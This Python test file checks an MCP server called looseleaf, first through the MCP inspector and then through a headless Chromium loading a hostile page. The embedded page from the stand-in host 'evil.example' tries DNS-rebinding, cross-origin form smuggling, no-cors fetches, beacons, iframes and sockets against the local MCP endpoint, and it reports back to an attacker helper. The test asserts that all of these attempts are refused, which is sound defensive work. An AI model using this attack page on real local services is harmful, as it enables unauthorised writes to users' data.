"""The server by programs of others: the MCP inspector, and a browser on a page that means harm.

Both are long, and skipped where the program is not there. MCP_INSPECTOR is the inspector's command if it is not on the
PATH as `mcp-inspector` (npm: @modelcontextprotocol/inspector, which needs a current Node.js).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from looseleaf.tools.catalogue import TOOLS
from mcp_serving import ARGUMENTS, PAGES, TOKEN, Told, call_body, digest, filled, serving

pytestmark = pytest.mark.long

INSPECTOR = os.environ.get("MCP_INSPECTOR") or shutil.which("mcp-inspector")
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)


# --- the inspector ---------------------------------------------------------------------


@pytest.mark.skipif(INSPECTOR is None, reason="the MCP inspector is not installed (see the top of this file)")
@pytest.mark.parametrize("era", ["legacy", "modern"])
@pytest.mark.parametrize("way", ["stdio", "http"])
def test_the_inspector_lists_and_uses_everything(tmp_path: Path, way: str, era: str) -> None:
    memory = filled(tmp_path / "memory")
    command = [sys.executable, "-m", "looseleaf", "--memory", str(memory), "mcp"]
    done = 0

    def inspect(target: list[str], method: str, *options: str, fails: bool = False) -> Any:
        nonlocal done
        done += 1
        run = subprocess.run(
            [str(INSPECTOR), "--cli", *target, "--protocol-era", era, "--method", method, *options],
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
            env=os.environ | {"HOME": str(tmp_path)},
        )
        assert (run.returncode != 0) is fails, (method, options, run.stdout, run.stderr)
        return run.stderr if fails else json.loads(run.stdout)

    def everything(target: list[str]) -> None:
        listed = inspect(target, "tools/list", "--strict")["tools"]
        assert [tool["name"] for tool in listed] == list(TOOLS)
        assert {tool["name"]: tool["inputSchema"] for tool in listed} == {
            name: tool.parameters for name, tool in TOOLS.items()
        }
        for name, arguments in ARGUMENTS.items():
            given = ("--tool-name", name, "--tool-args-json", json.dumps(arguments))
            answer = inspect(target, "tools/call", *given)
            assert answer.get("isError", False) is False, answer
            assert answer["structuredContent"], answer
        resources = inspect(target, "resources/list")["resources"]
        assert len(resources) == len(PAGES) - 2 + 3  # without SOUL.md and a day; the index and two new pages
        for resource in resources:
            [content] = inspect(target, "resources/read", "--uri", resource["uri"])["contents"]
            assert content["text"]
        assert len(inspect(target, "resources/templates/list")["resourceTemplates"]) == 2
        topic = inspect(target, "resources/read", "--uri", "looseleaf://topic/work")
        assert "Editor: vim" in topic["contents"][0]["text"]
        prompts = inspect(target, "prompts/list")["prompts"]
        assert [prompt["name"] for prompt in prompts] == ["start", "recall"]
        for prompt in prompts:
            named = ("--prompt-name", prompt["name"], "--prompt-args")
            word = f"{prompt['arguments'][0]['name']}=which editor"
            [message] = inspect(target, "prompts/get", *named, word)["messages"]
            assert "vim" in message["content"]["text"]

    if way == "stdio":
        everything(command)
    else:
        with serving(memory) as served:
            everything([served.url, "--header", f"Authorization: Bearer {TOKEN}"])
            before = digest(memory)
            wrong = [served.url, "--stored-auth-only", "--header", "Authorization: Bearer wrong"]
            inspect(wrong, "tools/list", fails=True)
            assert digest(memory) == before
    print(f"{way}, {era}: {done} runs of the inspector")


# --- a browser -------------------------------------------------------------------------

PAGE = """<!doctype html><meta charset=utf-8><title>evil</title><body><script>
const bases = {rebound: location.origin + '/mcp', address: 'http://127.0.0.1:PORT/mcp', name: 'http://localhost:PORT/mcp'};
const body = BODY, helper = 'http://evil.example:HELPER', results = [];
const modern = {'MCP-Protocol-Version': '2026-07-28', 'Mcp-Method': 'tools/call', 'Mcp-Name': 'remember',
                'Accept': 'application/json, text/event-stream'};
const json = {'Content-Type': 'application/json'};
const sleep = ms => new Promise(done => setTimeout(done, ms));

async function attempt(name, act) {
  let outcome;
  try {
    const answer = await act();
    outcome = answer instanceof Response ? (answer.type === 'opaque' ? 'opaque' : answer.status) : String(answer);
  } catch (error) { outcome = 'error: ' + error.name; }
  results.push([name, outcome]);
}

function framed(base, enctype, sandbox) {
  return new Promise(done => {
    const frame = document.createElement('iframe');
    frame.name = 'f' + Math.random();
    if (sandbox) frame.sandbox = 'allow-forms allow-scripts';
    document.body.append(frame);
    const form = document.createElement('form');
    Object.assign(form, {method: 'post', action: base, enctype, target: frame.name});
    const field = document.createElement('input');
    // As plain text, a form's `name=value` can be made to be JSON.
    field.name = body.slice(0, -1) + ',"x":"'; field.value = '"}';
    form.append(field); document.body.append(form);
    frame.onload = () => done('sent');
    setTimeout(() => done('sent'), 700);
    form.submit();
  });
}

function without_origin(base) {
  return new Promise(done => {
    const frame = document.createElement('iframe');
    frame.sandbox = 'allow-scripts';
    addEventListener('message', event => done(event.data), {once: true});
    frame.srcdoc = '<script>fetch(' + JSON.stringify(base) + ',{method:"POST",mode:"no-cors",body:' +
      JSON.stringify(body).replaceAll('<', '\\\\u003c') +
      '}).then(a=>parent.postMessage(a.type,"*"),e=>parent.postMessage("error: "+e.name,"*"))<\\/script>';
    document.body.append(frame);
    setTimeout(() => done('no answer'), 3000);
  });
}

function element(kind, base) {
  return new Promise(done => {
    const made = document.createElement(kind);
    made.onload = () => done('loaded'); made.onerror = () => done('error');
    made.src = base; document.body.append(made);
    setTimeout(() => done('no answer'), 3000);
  });
}

function stream(made) {
  return new Promise(done => {
    made.onopen = () => done('opened'); made.onerror = () => { made.close(); done('error'); };
    setTimeout(() => done('no answer'), 3000);
  });
}

async function attack(where, base) {
  const say = (name, options) => attempt(where + ': ' + name, () => fetch(base, {method: 'POST', body, ...options}));
  await say('JSON', {headers: {...json, ...modern}});
  await say('JSON with cookies', {headers: {...json, ...modern}, credentials: 'include'});
  await say('JSON with a wrong token', {headers: {...json, ...modern, Authorization: 'Bearer wrong'}});
  await say('JSON with the token, had it leaked', {headers: {...json, ...modern, Authorization: 'Bearer TOKEN'}});
  await say('JSON in the old protocol', {headers: {...json, Accept: modern.Accept}});
  await say('plain text', {headers: {'Content-Type': 'text/plain'}});
  await say('plain text, unread', {mode: 'no-cors', headers: {'Content-Type': 'text/plain'}});
  await say('a form, unread', {mode: 'no-cors', body: new URLSearchParams({x: body})});
  const parts = new FormData();
  parts.set('x', body);
  await say('parts, unread', {mode: 'no-cors', body: parts});
  await say('no type, unread', {mode: 'no-cors', body: new Blob([body])});
  await say('JSON, unread', {mode: 'no-cors', body: new Blob([body], {type: 'application/json'})});
  await say('kept alive, unread', {mode: 'no-cors', keepalive: true});
  for (const method of ['GET', 'HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'])
    await say(method, {method, body: method === 'GET' || method === 'HEAD' ? undefined : body});
  await say('GET, unread', {method: 'GET', mode: 'no-cors', body: undefined});
  await attempt(where + ': the token in the address', () => fetch(base + '?token=TOKEN', {mode: 'no-cors'}));
  await attempt(where + ': a beacon', async () => navigator.sendBeacon(base, body));
  for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])
    await attempt(where + ': a form of ' + type, () => framed(base, type, false));
  await attempt(where + ': a form of no origin', () => framed(base, 'text/plain', true));
  await attempt(where + ': a script of no origin', () => without_origin(base));
  for (const kind of ['img', 'script', 'iframe']) await attempt(where + ': ' + kind, () => element(kind, base));
  await attempt(where + ': events', () => stream(new EventSource(base)));
  await attempt(where + ': a socket', () => stream(new WebSocket(base.replace('http', 'ws'))));
}

(async () => {
  while ((await (await fetch(helper + '/go')).text()) !== 'go') await sleep(50);
  for (const [where, base] of Object.entries(bases)) await attack(where, base);
  await sleep(300);
  await fetch(helper + '/results', {method: 'POST', body: JSON.stringify(results)});
})();
</script>"""


@contextmanager
def web(answer: Any, port: int = 0) -> Iterator[int]:
    """A small web server of the attacker's: `answer(path, body)` says what."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            size = int(self.headers.get("Content-Length") or 0)
            said = answer(self.path, self.rfile.read(size)).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", str(len(said)))
            self.send_header("Connection", "close")
            self.end_headers()
            self.wfile.write(said)

        do_POST = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    made = ThreadingHTTPServer(("127.0.0.1", port), Handler)
    thread = threading.Thread(target=made.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield made.server_address[1]
    finally:
        made.shutdown()
        made.server_close()
        thread.join()


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
def test_a_page_in_a_browser_gets_nothing_and_changes_nothing(tmp_path: Path) -> None:
    """The page comes from evil.example at a port. Then that name, to the browser still the same, leads to the memory:
    what a rebound name does."""
    memory = filled(tmp_path / "memory")
    before = digest(memory)
    go, arrived, loaded = threading.Event(), threading.Event(), threading.Event()
    results: list[list[Any]] = []
    told: Told = []

    def help(path: str, body: bytes) -> str:
        if path == "/results":
            results.extend(json.loads(body))
            arrived.set()
        loaded.set()  # the page runs
        return "go" if go.is_set() else "wait"

    body = call_body("remember", {"topic": "attack", "content": "The attacker was here."}).decode()
    with web(help) as helper:
        page = PAGE.replace("HELPER", str(helper)).replace("TOKEN", TOKEN).replace("BODY", json.dumps(body))
        with web(lambda path, _: page) as port:
            page = page.replace("PORT", str(port))
            browser = subprocess.Popen(
                [
                    str(CHROMIUM),
                    "--headless",
                    "--no-sandbox",
                    "--disable-gpu",
                    "--disable-dev-shm-usage",
                    "--no-first-run",
                    f"--user-data-dir={tmp_path / 'browser'}",
                    "--host-resolver-rules=MAP evil.example 127.0.0.1",
                    "--remote-debugging-port=0",
                    f"http://evil.example:{port}/",
                ],
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
            is_loaded = loaded.wait(60)
        try:
            assert is_loaded, "the browser did not load the page"
            with serving(memory, port=port, told=told):
                go.set()
                assert arrived.wait(120), "the page did not come to its end"
        finally:
            browser.terminate()
            browser.wait()
    assert digest(memory) == before
    outcomes = dict(map(tuple, results))
    assert len(outcomes) == len(results) >= 90
    for name, outcome in outcomes.items():
        is_told = isinstance(outcome, int) and outcome >= 400
        assert (
            is_told
            or outcome in ("opaque", "sent", "true", "error", "loaded", "no answer")
            or (str(outcome).startswith("error: "))
        ), (name, outcome)
    assert outcomes["rebound: JSON"] == 401
    assert outcomes["rebound: JSON with the token, had it leaked"] == 421
    assert all(
        isinstance(outcome, str) for name, outcome in outcomes.items() if not name.startswith("rebound")
    )
    # What reached the server, preflights among it, was refused, each.
    assert {status for _, _, status in told} <= {401, 403, 404, 405, 415, 421}
    assert len(told) >= 60
    hosts = {host for _, host, _ in told}
    assert hosts == {f"evil.example:{port}", f"127.0.0.1:{port}", f"localhost:{port}"}
    print(f"{len(results)} attempts, {len(told)} requests reached the server, all refused")
